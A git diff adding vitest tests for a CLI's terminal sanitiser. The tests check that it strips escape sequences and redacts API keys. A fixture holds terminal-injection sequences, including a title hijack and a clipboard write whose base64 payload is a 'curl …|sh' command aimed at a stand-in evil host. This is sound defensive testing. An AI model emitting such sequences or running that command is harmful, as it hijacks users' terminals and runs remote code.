@@ -1,6 +1,18 @@
 import { PassThrough } from "node:stream";
 import { describe, expect, it } from "vitest";
-import { colourEnabled, indent, memoryTerminal, oneLine, streamTerminal } from "./terminal.js";
+import {
+  colourEnabled,
+  indent,
+  lineTerminal,
+  memoryTerminal,
+  oneLine,
+  streamTerminal,
+  terminalSafe,
+} from "./terminal.js";
+
+const ESC = "\u001b";
+/** A tool result that sets the window title and writes `curl …|sh` to the clipboard. */
+const HOSTILE = `Clear${ESC}]0;TITLE-HIJACK${ESC}\\${ESC}]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZS94fHNo\u0007 sky`;
 
 describe("colourEnabled", () => {
   it("is on for a terminal and off otherwise", () => {
@@ -49,5 +61,37 @@ describe("oneLine", () => {
 describe("indent", () => {
   it("prefixes every non-empty line", () => {
     expect(indent("a\n\nb", "> ")).toBe("> a\n\n> b");
+  });
+});
+
+describe("terminalSafe", () => {
+  it("removes OSC title and clipboard writes whole, with their payload", () => {
+    expect(terminalSafe(HOSTILE)).toBe("Clear sky");
+  });
+
+  it("removes cursor moves, colours, 8-bit CSI, carriage returns and other controls, keeping tabs and newlines", () => {
+    expect(
+      terminalSafe(`a${ESC}[2J${ESC}[1;1H${ESC}[31mred${ESC}[0m\u009b2Kb\rc\u0007\u0000\u007f\td\ne`),
+    ).toBe("aredbc\td\ne");
+    expect(terminalSafe(`x${ESC}P1$r${ESC}\\y${ESC}7z\u009d8;;http://evil\u009c!`)).toBe("xyz!");
+  });
+
+  it("redacts credentials", () => {
+    expect(terminalSafe("401: Incorrect API key provided: sk-compat-SECRET-123")).toBe(
+      "401: Incorrect API key provided: [REDACTED]",
+    );
+  });
+});
+
+describe("streamTerminal and lineTerminal", () => {
+  it("make every line safe but keep the CLI's own colours", () => {
+    const stdout = new PassThrough();
+    const terminal = streamTerminal(stdout, new PassThrough(), { FORCE_COLOR: "1" });
+    terminal.out(`${terminal.style.yellow("⚙")} ${HOSTILE}`);
+    expect(String(stdout.read())).toBe(`${ESC}[33m⚙${ESC}[39m Clear sky\n`);
+    const lines: string[] = [];
+    const plain = lineTerminal((line) => lines.push(line), false);
+    plain.err(`${HOSTILE} ${ESC}[1A`);
+    expect(lines).toEqual(["Clear sky "]);
   });
 });
